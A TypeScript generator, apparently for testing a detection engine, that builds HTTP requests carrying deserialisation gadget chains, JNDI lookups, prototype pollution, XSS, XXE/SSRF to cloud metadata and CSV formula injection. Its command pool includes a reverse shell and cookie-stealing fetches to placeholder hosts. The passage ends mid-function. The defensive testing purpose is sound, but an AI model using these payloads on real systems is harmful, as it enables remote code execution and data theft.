// Exploitation of data formats and object models, as exploitation frameworks and manual testers send
// it to JSON/REST/GraphQL services: serialised objects (PHP, Python pickle, YAML tags that build
// objects, Ruby Marshal, .NET, Java auto-typed JSON and XStream, node-serialize, prototype pollution),
// documents that carry attacks (SVG and XML uploads, HTML for PDF renderers, CSV formulas, Markdown)
// and injections inside GraphQL arguments and variables. Each generator draws class names, commands,
// hosts and the carrier (raw body, JSON field, form field, cookie, base64, URL-encoded, multipart
// upload) from a seed (rng.ts). expr-deser.ts has the plainer serialised shapes; this file varies
// where and how they travel. `formatsBenign` holds the same formats used honestly.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const pick = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const word = (r: R, n = 5) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");
const cap = (s: string) => s.charAt(0).toUpperCase() + s.slice(1);
const oast = (r: R) => `${word(r, 8)}.${pick(r, ["oast.example", "collab.test", "cb.invalid"])}`;
const cmd = (r: R) => pick(r, ["id", "whoami", "uname -a", "cat /etc/passwd", "curl http://" + oast(r) + "/x", "nslookup " + oast(r), "touch /tmp/" + word(r), "bash -c 'sh -i >& /dev/tcp/198.51.100." + r(255) + "/4444 0>&1'"]);
const b64 = (s: string | Buffer) => Buffer.from(s).toString("base64");
const enc = encodeURIComponent;
const host: [string, string] = ["host", "svc.local"];
const ua: [string, string] = ["user-agent", "python-requests/2.31.0"];
const json: [string, string] = ["content-type", "application/json"];
const form: [string, string] = ["content-type", "application/x-www-form-urlencoded"];
const post = (path: string, body: string | Uint8Array, type: [string, string], extra: [string, string][] = []): Req => ({ method: "POST", path, headers: [host, ua, type, ...extra], body });
const get = (path: string, extra: [string, string][] = []): Req => ({ method: "GET", path, headers: [host, ua, ...extra] });
const upload = (r: R, filename: string, type: string, content: string): Req => {
  const b = "----WebKitFormBoundary" + word(r, 12);
  return post(pick(r, ["/api/upload", "/files", "/v1/attachments", "/avatar"]), `--${b}\r\nContent-Disposition: form-data; name="${pick(r, ["file", "upload", "document"])}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}\r\nContent-Disposition: form-data; name="description"\r\n\r\n${word(r)}\r\n--${b}--\r\n`, ["content-type", `multipart/form-data; boundary=${b}`]);
};
/** A value handed to a service: as a JSON field, a form field, a query argument or a cookie. */
function carry(r: R, v: string, names: string[]): Req {
  const n = pick(r, names);
  switch (r(4)) {
    case 0: return post(pick(r, ["/api/v1/import", "/api/state", "/api/profile"]), JSON.stringify({ id: r(9999), [n]: v }), json);
    case 1: return post("/app/save", `${n}=${enc(v)}&id=${r(99)}`, form);
    case 2: return get(`/api/load?${n}=${enc(v)}`);
    default: return get("/account", [["cookie", `sid=${word(r, 16)}; ${n}=${enc(v)}`]]);
  }
}

type Gen = (r: R) => Req;

// --- PHP serialisation ---------------------------------------------------------------------------

function phpValue(r: R, depth: number): string {
  const k = r(5);
  if (k === 0 && depth < 2) return phpObj(r, depth + 1);
  if (k === 1) return `i:${r(9999)};`;
  if (k === 2) return `b:${r(2)};`;
  const s = pick(r, ["system", "passthru", "assert", cmd(r), "/var/www/html/" + word(r) + ".php", "<?php eval($_POST[" + word(r, 1) + "]);?>", word(r)]);
  return `s:${Buffer.byteLength(s)}:"${s}";`;
}
function phpObj(r: R, depth = 0): string {
  const cls = pick(r, ["", "", "GuzzleHttp\\Psr7\\", "Monolog\\Handler\\", "Symfony\\Component\\Process\\", "Laminas\\Log\\", "Illuminate\\Foundation\\Testing\\"]) + cap(word(r, 3 + r(8)));
  const props = 1 + r(3);
  const body: string[] = [];
  for (let k = 0; k < props; k++) {
    const vis = r(3);
    const name = (vis === 0 ? "\0*\0" : vis === 1 ? `\0${cls}\0` : "") + word(r, 3 + r(6));
    body.push(`s:${Buffer.byteLength(name)}:"${name}";${phpValue(r, depth)}`);
  }
  // `O:+8:` (a signed length) and a `C:` custom object are read as well by unserialize()
  const tag = r(6) === 0 ? "C" : "O";
  const len = `${r(5) === 0 ? "+" : ""}${Buffer.byteLength(cls)}`;
  return tag === "C" ? `C:${len}:"${cls}":${body.join("").length}:{${body.join("")}}` : `O:${len}:"${cls}":${props}:{${body.join("")}}`;
}
const phpArrayWithObj = (r: R) => `a:2:{i:0;${phpObj(r)}s:${4}:"${word(r, 4)}";${phpValue(r, 2)}}`;
const nul = (s: string) => s.replace(/\0/g, "%00");
const PHP: Gen[] = [
  (r) => carry(r, phpObj(r), ["data", "state", "prefs", "cart", "payload"]),
  (r) => get(pick(r, ["/", "/index.php", "/account"]), [["cookie", `${pick(r, ["PHPSESSID=" + word(r, 26) + "; ", ""])}${pick(r, ["remember", "user", "cart", "wp_settings"])}=${nul(enc(phpArrayWithObj(r)))}`]]),
  (r) => get("/dashboard", [["cookie", `${pick(r, ["session_data", "prefs", "auth"])}=${enc(b64(phpObj(r)))}`]]),
  (r) => post("/api/cache/restore", JSON.stringify({ blob: b64(phpArrayWithObj(r)) }), json),
  (r) => post("/index.php?route=" + word(r), `${pick(r, ["data", "filter", "import"])}=${nul(enc(phpObj(r))).replace(/%22/g, r(2) ? "%22" : '"')}`, form),
  (r) => post("/api/v2/objects", phpObj(r), ["content-type", pick(r, ["text/plain", "application/vnd.php.serialized", "application/octet-stream"])]),
];

// --- Python pickle --------------------------------------------------------------------------------

const pyMod = (r: R) => pick(r, ["os", "posix", "nt", "subprocess", "builtins", "__builtin__", "commands"]);
const pyFn = (r: R) => pick(r, ["system", "popen", "check_output", "getoutput", "eval", "exec", "call"]);
/** Protocol 0 text: GLOBAL or INST, a MARK, string args, TUPLE/REDUCE, STOP; at random an extra PUT/POP. */
function pickleText(r: R): string {
  const arg = cmd(r).replace(/'/g, "\\'");
  switch (r(4)) {
    case 0: return `c${pyMod(r)}\n${pyFn(r)}\n(S'${arg}'\ntR.`;
    case 1: return `c${pyMod(r)}\n${pyFn(r)}\np0\n(V${arg}\np1\ntp2\nRp3\n.`;
    case 2: return `(S'${arg}'\ni${pyMod(r)}\n${pyFn(r)}\n.`;
    default: return `c__builtin__\n${pick(r, ["eval", "exec"])}\n(S'__import__("os").system("${cmd(r).replace(/["']/g, "")}")'\ntR.`;
  }
}
/** Binary protocol 2-5: PROTO, (FRAME), SHORT_BINUNICODE module and name, STACK_GLOBAL or GLOBAL, arg, TUPLE1, REDUCE, STOP. */
function pickleBinary(r: R): Buffer {
  const proto = 2 + r(4);
  const s = (t: string) => Buffer.concat([Buffer.from([0x8c, t.length]), Buffer.from(t)]);
  const arg = Buffer.from(cmd(r));
  const head = proto >= 4 && r(2) ? Buffer.concat([s(pyMod(r)), Buffer.from([0x94]), s(pyFn(r)), Buffer.from([0x94, 0x93, 0x94])]) : Buffer.from(`c${pyMod(r)}\n${pyFn(r)}\n`);
  const body = Buffer.concat([head, Buffer.from([0x8c, arg.length]), arg, Buffer.from([0x94, 0x85, 0x94, 0x52, 0x94, 0x2e])]);
  const frame = proto >= 4 ? Buffer.concat([Buffer.from([0x95]), Buffer.from(new BigUint64Array([BigInt(body.length)]).buffer)]) : Buffer.alloc(0);
  return Buffer.concat([Buffer.from([0x80, proto]), frame, body]);
}
const b64url = (b: Buffer) => b.toString("base64").replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
const PICKLE: Gen[] = [
  (r) => post(pick(r, ["/api/model/load", "/predict", "/api/jobs"]), pickleText(r), ["content-type", pick(r, ["application/octet-stream", "application/x-python-pickle", "text/plain"])]),
  (r) => carry(r, b64(pickleText(r)), ["session", "state", "data", "obj"]),
  (r) => post("/api/tasks", JSON.stringify({ task: word(r), args: b64(pickleBinary(r)) }), json),
  (r) => get("/profile", [["cookie", `${pick(r, ["session", "user", "remember_token"])}=${pick(r, [b64, b64url])(pickleBinary(r))}`]]),
  (r) => post(pick(r, ["/api/model/load", "/cache/set"]), new Uint8Array(pickleBinary(r)), ["content-type", "application/octet-stream"]),
];

// --- YAML tags that build objects ----------------------------------------------------------------

function yamlGadget(r: R): string {
  const c = JSON.stringify(cmd(r));
  switch (r(10)) {
    case 0: return `!!python/object/apply:${pick(r, ["os.system", "subprocess.check_output", "os.popen", "subprocess.Popen"])} [${c}]`;
    case 1: return `!!python/object/apply:subprocess.check_output\nargs: [[${cmd(r).split(" ").map((x) => JSON.stringify(x)).join(", ")}]]`;
    case 2: return `!!python/object/new:${pick(r, ["type", "tuple"])}\n  args: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\n  listitems: "__import__('os').system(${c})"`;
    case 3: return `!<tag:yaml.org,2002:python/object/apply:os.system> [${c}]`;
    case 4: return `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${oast(r)}/${word(r)}.jar"]]]]`;
    case 5: return `!!${pick(r, ["com.sun.rowset.JdbcRowSetImpl", "org.springframework.beans.factory.config.PropertyPathFactoryBean"])}\n  dataSourceName: ldap://${oast(r)}:1389/${word(r)}\n  autoCommit: true`;
    case 6: return `--- !ruby/object:Gem::${pick(r, ["Installer", "Requirement", "DependencyList", "Source::SpecificFile"])}\n${word(r)}: ${word(r)}\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    debug_output: !ruby/object:Net::WriteAdapter\n      method_id: :system`;
    case 7: return `- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n  ${word(r)}; eval(%[system(${c})]): x`;
    case 8: return `!!org.apache.commons.configuration.ConfigurationMap [!!org.apache.commons.configuration.JNDIConfiguration [!!javax.naming.InitialContext [], "rmi://${oast(r)}/x"]]: 1`;
    default: return `!!python/name:${pick(r, ["os.system", "subprocess.getoutput", "builtins.eval"])} ''`;
  }
}
const YAML: Gen[] = [
  (r) => post(pick(r, ["/api/config", "/v1/pipelines", "/import"]), `${pick(r, ["", "---\n"])}${word(r)}: ${r(99)}\n${word(r)}: ${yamlGadget(r).replace(/\n/g, "\n  ")}\n`, ["content-type", pick(r, ["application/x-yaml", "application/yaml", "text/yaml", "text/plain"])]),
  (r) => post("/api/v1/render", JSON.stringify({ name: word(r), spec: yamlGadget(r) }), json),
  (r) => upload(r, `${word(r)}.${pick(r, ["yml", "yaml"])}`, pick(r, ["application/x-yaml", "text/yaml", "application/octet-stream"]), yamlGadget(r)),
  (r) => carry(r, yamlGadget(r), ["config", "yaml", "data", "settings"]),
];

// --- Ruby Marshal -------------------------------------------------------------------------------

/** Marshal 4.8: an object of a gadget class (`o:` symbol, ivar count, ivars), as Rails cookies and caches carry it. */
function marshal(r: R): Buffer {
  const sym = (s: string) => Buffer.concat([Buffer.from([0x3a, s.length + 5]), Buffer.from(s)]);
  const str = (s: string) => Buffer.concat([Buffer.from([0x49, 0x22, s.length + 5]), Buffer.from(s), Buffer.from([0x06, 0x3a, 0x06, 0x45, 0x54])]);
  const cls = pick(r, ["Gem::Requirement", "Gem::StubSpecification", "ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy", "ERB", "Gem::Source::Git"]);
  return Buffer.concat([Buffer.from([0x04, 0x08, 0x6f]), sym(cls), Buffer.from([0x07]), sym("@" + word(r, 4)), str(cmd(r)), sym("@" + pick(r, ["src", "method", "loaded_from"])), str(`|${cmd(r)} 1>&2`)]);
}
/** A gadget chain's opening: an array of classes and objects (`[`, `c` class references, a `U:` user-marshalled object). */
function marshalArray(r: R): Buffer {
  const cref = (s: string) => Buffer.concat([Buffer.from([0x63, s.length + 5]), Buffer.from(s)]);
  const tail = Buffer.from(`U:\x15Gem::Requirement[\x06o:\x1cGem::DependencyList\x07:\x0b@specs[\x00:\x0b@${word(r, 4)}T`, "latin1");
  return Buffer.concat([Buffer.from([0x04, 0x08, 0x5b, 0x08]), cref(pick(r, ["Gem::SpecFetcher", "Gem::Installer", "Gem::Version"])), cref("Gem::Installer"), tail]);
}
const MARSHAL: Gen[] = [
  (r) => get("/", [["cookie", `_${word(r)}_session=${enc(b64(marshal(r)))}--${word(r, 40).replace(/[g-z]/g, (c) => String((c.charCodeAt(0) - 103) % 10))}`]]),
  (r) => post("/api/jobs/enqueue", JSON.stringify({ job: cap(word(r)) + "Job", payload: b64(marshal(r)) }), json),
  (r) => post("/cache/import", new Uint8Array(marshal(r)), ["content-type", "application/octet-stream"]),
  (r) => carry(r, b64(marshalArray(r)), ["session", "data", "payload", "cache"]),
];

// --- .NET ------------------------------------------------------------------------------------------

const dotnetGadget = (r: R) => pick(r, [
  "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
  "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0",
  "System.Security.Principal.WindowsIdentity, mscorlib",
  "System.Web.UI.ObjectStateFormatter, System.Web",
  "System.Activities.Presentation.WorkflowDesigner, System.Activities.Presentation",
  "System.Windows.ResourceDictionary, PresentationFramework",
]);
const DOTNET: Gen[] = [
  (r) => post("/api/orders", JSON.stringify({ id: r(999), item: { "$type": dotnetGadget(r), MethodName: "Start", MethodParameters: { "$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c " + cmd(r)] }, ObjectInstance: { "$type": "System.Diagnostics.Process, System" } } }), json),
  (r) => post("/api/settings", `{"${pick(r, ["__type", "$type"])}":"${pick(r, ["System.Diagnostics.Process, System", "System.IO.FileSystemInfo, mscorlib", "System.Management.Automation.PSObject, System.Management.Automation"])}","StartInfo":{"FileName":"${pick(r, ["cmd.exe", "powershell.exe"])}","Arguments":"/c ${cmd(r)}"}}`, json),
  (r) => post("/Default.aspx", `__VIEWSTATE=${enc("/wEy" + b64(Buffer.concat([Buffer.from([0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0x01]), Buffer.from(word(r, 30 + r(30)))])))}&__VIEWSTATEGENERATOR=${word(r, 8).toUpperCase()}&__EVENTVALIDATION=${word(r, 12)}`, form),
  (r) => carry(r, b64(Buffer.concat([Buffer.from([0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x0c, 0x02]), Buffer.from("System.Data, Version=4.0.0.0 " + word(r, 20))])), ["state", "token", "data"]),
  (r) => post("/Service.svc", `<?xml version="1.0"?><ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="${word(r)}" ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><System:String>cmd</System:String><System:String>/c ${cmd(r)}</System:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>`, ["content-type", "application/xml"]),
  (r) => post("/api/import", JSON.stringify({ TypeObject: { "$type": dotnetGadget(r) }, Data: b64(word(r, 24)) }), json),
];

// --- Java --------------------------------------------------------------------------------------------

const jndiUrl = (r: R) => `${pick(r, ["ldap", "rmi", "ldaps"])}://${oast(r)}:${pick(r, ["1389", "1099", "389"])}/${cap(word(r))}`;
const JAVA: Gen[] = [
  (r) => post("/api/user", `{"${pick(r, ["@type", "\\u0040type", "\\x40type"])}":"${pick(r, ["com.sun.rowset.JdbcRowSetImpl", "Lcom.sun.rowset.JdbcRowSetImpl;", "LLcom.sun.rowset.JdbcRowSetImpl;;", "org.apache.xbean.propertyeditor.JndiConverter", "com.zaxxer.hikari.HikariConfig"])}","${pick(r, ["dataSourceName", "asText", "metricRegistry", "healthCheckRegistry"])}":"${jndiUrl(r)}","autoCommit":true}`, json),
  (r) => post("/api/v1/items", JSON.stringify({ a: { "@type": "java.lang.Class", val: "com.sun.rowset.JdbcRowSetImpl" }, b: { "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: jndiUrl(r), autoCommit: true } }), json),
  (r) => post("/api/events", JSON.stringify({ id: r(999), handler: [pick(r, ["com.sun.rowset.JdbcRowSetImpl", "org.springframework.context.support.FileSystemXmlApplicationContext", "org.apache.commons.dbcp2.datasources.SharedPoolDataSource", "com.mchange.v2.c3p0.JndiRefForwardingDataSource"]), { [pick(r, ["dataSourceName", "jndiName", "configLocation"])]: jndiUrl(r), ...(r(2) ? { loginTimeout: 0 } : {}) }] }), json),
  (r) => post("/api/config", JSON.stringify(["org.springframework.context.support.ClassPathXmlApplicationContext", `http://${oast(r)}/${word(r)}.xml`]), json),
  (r) => post("/xstream/import", `<sorted-set><string>${word(r)}</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>${cmd(r).split(" ").map((x) => `<string>${x}</string>`).join("")}</command></target><action>start</action></handler></dynamic-proxy></sorted-set>`, ["content-type", pick(r, ["application/xml", "text/xml"])]),
  (r) => post("/api/orders", `<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="java.util.ArrayList$Itr"/><next class="java.lang.ProcessBuilder"><command><string>${cmd(r).split(" ")[0]}</string></command></next></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString><string>${word(r)}</string></entry></map>`, ["content-type", "application/xml"]),
  (r) => post("/rest/import", `<java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.${pick(r, ["ProcessBuilder", "Runtime"])}">${pick(r, [`<array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>${cmd(r)}</string></void></array><void method="start"/>`, `<void method="getRuntime"><void method="exec"><string>${cmd(r)}</string></void></void>`])}</void></java>`, ["content-type", "text/xml"]),
];

// --- Node.js ----------------------------------------------------------------------------------------

const pollKey = (r: R) => pick(r, ["isAdmin", "admin", "role", "shell", "NODE_OPTIONS", "outputFunctionName", "execArgv", "env", "sourceURL", "allowedHosts"]);
const pollVal = (r: R) => pick(r, [true, 1, "/proc/self/environ", "--require /proc/self/environ", `x;process.mainModule.require('child_process').execSync('${cmd(r).replace(/'/g, "")}')//`, "admin"]);
const NODE: Gen[] = [
  (r) => get("/", [["cookie", `profile=${enc(b64(JSON.stringify({ username: word(r), rce: `_$$ND_FUNC$$_function(){require('child_process').${pick(r, ["exec", "execSync"])}('${cmd(r).replace(/'/g, "")}', function(e,o){})}()` })))}`]]),
  (r) => post("/api/profile", `{"name":"${word(r)}","prefs":{"${pick(r, ["__proto__", "__proto__", "\\u005f_proto__"])}":{"${pollKey(r)}":${JSON.stringify(pollVal(r))}}}}`, json),
  (r) => post("/api/settings", `{"theme":"dark","constructor":{"prototype":{"${pollKey(r)}":${JSON.stringify(pollVal(r))}}}}`, json),
  (r) => post("/api/merge", JSON.stringify({ [pick(r, ["__proto__.", "constructor.prototype.", "a.__proto__.", "[\"__proto__\"]."])+ pollKey(r)]: pollVal(r) }), json),
  (r) => get(`/search?${word(r)}=1&${pick(r, ["__proto__", "a[__proto__]", "constructor[prototype]", "a[constructor][prototype]", "__pro__proto__to__"])}[${pollKey(r)}]=${enc(String(pollVal(r)))}`),
  (r) => { const k = pollKey(r); return post("/api/items", `q=${word(r)}&${pick(r, [`__proto__.${k}`, `a[__proto__][${k}]`, `constructor.prototype.${k}`, `x[constructor][prototype][${k}]`])}=${enc(String(pollVal(r)))}`, form); },
  (r) => post("/api/batch", JSON.stringify([{ op: "set", path: pick(r, ["__proto__", "constructor/prototype", "__proto__/" + pollKey(r)]), value: pollVal(r) }]), json),
];

// --- SVG documents ---------------------------------------------------------------------------------

const js = (r: R) => pick(r, ["alert(document.domain)", "fetch('//" + oast(r) + "/'+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "top.location='//" + oast(r) + "'", "prompt`1`"]);
const svgWrap = (r: R, inner: string, attrs = "") => `${r(2) ? '<?xml version="1.0" standalone="no"?>\n' : ""}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${16 + r(200)}" height="${16 + r(200)}"${attrs}>${inner}</svg>`;
function svgDoc(r: R): string {
  switch (r(8)) {
    case 0: return svgWrap(r, `<rect width="10" height="10"/>`, ` ${pick(r, ["onload", "onLoad", "onbegin"])}="${js(r)}"`);
    case 1: return svgWrap(r, `<circle r="5"/><script${pick(r, ["", ' type="text/javascript"', ' type="application/ecmascript"'])}>${pick(r, ["", "<![CDATA["])}${js(r)}${pick(r, ["", "]]>"])}</script>`);
    case 2: return svgWrap(r, `<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><${pick(r, ["iframe", "embed", "object"])} ${pick(r, ["src", "data"])}="${pick(r, ["javascript:" + js(r), "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/"])}"/></body></foreignObject>`);
    case 3: return svgWrap(r, `<a ${pick(r, ["xlink:href", "href"])}="${pick(r, ["javascript:", "JaVaScRiPt:", "&#106;avascript:"])}${js(r)}"><text x="1" y="10">${word(r)}</text></a>`);
    case 4: return svgWrap(r, `<animate attributeName="href" values="javascript:${js(r)}"/><set attributeName="onmouseover" to="${js(r)}"/>`);
    case 5: return `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ${word(r, 3)} SYSTEM "${pick(r, ["file:///etc/passwd", "file:///proc/self/environ", "http://169.254.169.254/latest/meta-data/iam/"])}">]>` + svgWrap(r, `<text x="0" y="15">&${"$E"};</text>`).replace("$E", "");
    case 6: return svgWrap(r, `<image ${pick(r, ["xlink:href", "href"])}="${pick(r, ["file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:2375/containers/json", "text:/etc/passwd"])}" width="100" height="100"/>`);
    default: return svgWrap(r, `<use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${js(r)}"/></svg>`)}#x"/>`);
  }
}
const SVG: Gen[] = [
  (r) => upload(r, `${pick(r, ["avatar", "logo", "icon"])}.svg`, "image/svg+xml", svgDoc(r)),
  (r) => upload(r, `${word(r)}.${pick(r, ["png", "jpg"])}`, pick(r, ["image/png", "image/svg+xml"]), svgDoc(r)),
  (r) => post(pick(r, ["/api/images", "/api/v1/icons"]), svgDoc(r), ["content-type", "image/svg+xml"]),
  (r) => post("/api/badges", JSON.stringify({ name: word(r), svg: svgDoc(r) }), json),
];
const SVG_CASES = 8; // (svgDoc's shapes, for the test's coverage check)

// --- XML documents (office parts, SOAP) -----------------------------------------------------------

const dtdHead = (r: R, root: string) => {
  const e = word(r, 3), u = pick(r, ["file:///etc/passwd", "file:///c:/windows/win.ini", `http://${oast(r)}/`, "http://169.254.169.254/latest/meta-data/"]);
  switch (r(4)) {
    case 0: return { decl: `<!DOCTYPE ${root} [<!ENTITY ${e} SYSTEM "${u}">]>`, ref: `&${e};` };
    case 1: return { decl: `<!DOCTYPE ${root} [<!ENTITY % ${e} SYSTEM "http://${oast(r)}/${word(r)}.dtd"> %${e};]>`, ref: word(r) };
    case 2: return { decl: `<!DOCTYPE ${root} [<!ENTITY % d SYSTEM "${u}"><!ENTITY % w "<!ENTITY &#37; s SYSTEM 'http://${oast(r)}/?%d;'>">%w;%s;]>`, ref: word(r) };
    default: return { decl: `<!DOCTYPE ${root} PUBLIC "-//${cap(word(r))}//DTD//EN" "http://${oast(r)}/${word(r)}.dtd">`, ref: word(r) };
  }
};
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const XMLDOC: Gen[] = [
  (r) => { const d = dtdHead(r, "w:document"); return upload(r, "document.xml", "application/xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${d.decl}<w:document ${W}><w:body><w:p><w:r><w:t>${d.ref}</w:t></w:r></w:p></w:body></w:document>`); },
  (r) => { const d = dtdHead(r, "sst"); return post("/api/sheets/import", `<?xml version="1.0" encoding="UTF-8"?>${d.decl}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>${d.ref}</t></si></sst>`, ["content-type", pick(r, ["application/xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"])]); },
  (r) => { const d = dtdHead(r, "Types"); return upload(r, "[Content_Types].xml", "text/xml", `<?xml version="1.0"?>${d.decl}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="${d.ref}"/></Types>`); },
  (r) => { const d = dtdHead(r, "soap:Envelope"); return post("/ws/OrderService", `<?xml version="1.0"?>${d.decl}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getOrder><id>${d.ref}</id></getOrder></soap:Body></soap:Envelope>`, ["content-type", pick(r, ["text/xml; charset=utf-8", "application/soap+xml"])], [["soapaction", '"urn:getOrder"']]); },
  (r) => post("/api/feed", `<${word(r)} xmlns:xi="http://www.w3.org/2001/XInclude"><title>${word(r)}</title><xi:include ${pick(r, ['parse="text" ', ""])}href="${pick(r, ["file:///etc/passwd", "/etc/shadow", "http://169.254.169.254/latest/meta-data/"])}"${pick(r, ["", ' xpointer="xpointer(/*)"'])}/></${"x"}>`.replace(/<\/x>$/, "</doc>").replace(/^<(\w+)/, "<doc"), ["content-type", "application/xml"]),
  (r) => { const d = dtdHead(r, "x"); return post("/api/convert", JSON.stringify({ format: "docx", xml: `<?xml version="1.0"?>${d.decl}<x>${d.ref}</x>` }), json); },
];

// --- HTML for PDF/HTML renderers --------------------------------------------------------------------

const localUrl = (r: R) => pick(r, ["file:///etc/passwd", "file:///proc/self/environ", "file:///C:/Windows/win.ini", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:8500/v1/agent/self", "http://localhost:10255/pods"]);
function htmlInject(r: R): string {
  switch (r(8)) {
    case 0: return `<iframe src="${localUrl(r)}" width="800" height="800"></iframe>`;
    case 1: return `<link rel="attachment" href="${localUrl(r)}">`;
    case 2: return `<meta http-equiv="refresh" content="0;url=${localUrl(r)}">`;
    case 3: return `<object data="${localUrl(r)}" type="text/plain"></object>`;
    case 4: return `<embed src="${localUrl(r)}">`;
    case 5: return `<script>var x=new XMLHttpRequest();x.onload=function(){document.write(this.responseText)};x.open("GET","${localUrl(r)}");x.send();</script>`;
    case 6: return `<img src="x" onerror="document.write('<iframe src=${localUrl(r)}></iframe>')">`;
    default: return `<annotation file="${pick(r, ["/etc/passwd", "/etc/hosts"])}" content="${pick(r, ["/etc/passwd", "/etc/hosts"])}" icon="Paperclip"/>`;
  }
}
const HTMLPDF: Gen[] = [
  (r) => post(pick(r, ["/api/invoices/pdf", "/render/pdf", "/api/v1/reports/export"]), JSON.stringify({ title: `Invoice ${r(9999)}`, html: `<html><body><h1>Invoice</h1><p>${word(r)}</p>${htmlInject(r)}</body></html>` }), json),
  (r) => post("/export", `format=pdf&content=${enc(`<p>${word(r)}</p>${htmlInject(r)}`)}`, form),
  (r) => post("/api/render", `<!DOCTYPE html><html><head><title>${word(r)}</title>${htmlInject(r)}</head><body>${word(r)}</body></html>`, ["content-type", "text/html"]),
  (r) => post("/api/resume", JSON.stringify({ name: `${cap(word(r))} ${cap(word(r))}`, summary: `${word(r)} ${htmlInject(r)}` }), json),
];

// --- CSV formula payloads --------------------------------------------------------------------------

function formula(r: R): string {
  const lead = pick(r, ["=", "=", "+", "-", "@", "=-", "+-"]);
  switch (r(7)) {
    case 0: return `${lead}cmd|' /C ${pick(r, ["calc", "notepad", "powershell IEX(wget " + oast(r) + ")"])}'!A0`;
    case 1: return `${lead}HYPERLINK("http://${oast(r)}/?d="&A1&B1,"${pick(r, ["Click for details", "Open"])}")`;
    case 2: return `${lead}IMPORTXML(CONCAT("http://${oast(r)}/?v=",A2),"//a")`;
    case 3: return `${lead}WEBSERVICE("http://${oast(r)}/?"&A1)`;
    case 4: return `=DDE("cmd";"/C ${pick(r, ["calc", "whoami"])}";"!A0")`;
    case 5: return `@SUM(1+9)*cmd|' /C calc'!A0`;
    default: return `${lead}${r(9)}+${r(9)}+cmd|'/c ${pick(r, ["calc", "mshta http://" + oast(r) + "/x.hta"])}'!'A1'`;
  }
}
const csvRow = (r: R, f: string) => `${r(999)},${cap(word(r))},${/[",]/.test(f) || r(2) ? '"' + f.replace(/"/g, '""') + '"' : f},${r(99)}.00`;
const CSV: Gen[] = [
  (r) => upload(r, `${pick(r, ["contacts", "import", "users"])}.csv`, pick(r, ["text/csv", "application/vnd.ms-excel"]), `id,name,note,amount\n${r(999)},${cap(word(r))},ok,1.00\n${csvRow(r, formula(r))}\n`),
  (r) => post("/api/contacts/import", `id,name,note,amount\r\n${csvRow(r, formula(r))}\r\n`, ["content-type", "text/csv"]),
  (r) => post("/api/contacts", JSON.stringify({ firstName: formula(r), lastName: cap(word(r)), email: `${word(r)}@example.com` }), json),
  (r) => post("/signup", `name=${enc(formula(r))}&email=${word(r)}%40example.com`, form),
];

// --- Markdown ---------------------------------------------------------------------------------------

function markdown(r: R): string {
  const jsUrl = `${pick(r, ["javascript:", "JavaScript:", "javascript&#58;", "java\tscript:", "&#x6A;avascript:"])}${js(r)}`;
  switch (r(6)) {
    case 0: return `# ${cap(word(r))}\n\nSee [the docs](${jsUrl}) for more.`;
    case 1: return `![${word(r)}](${jsUrl})`;
    case 2: return `Release notes\n\n[docs]: ${jsUrl}\n\nRead [docs].`;
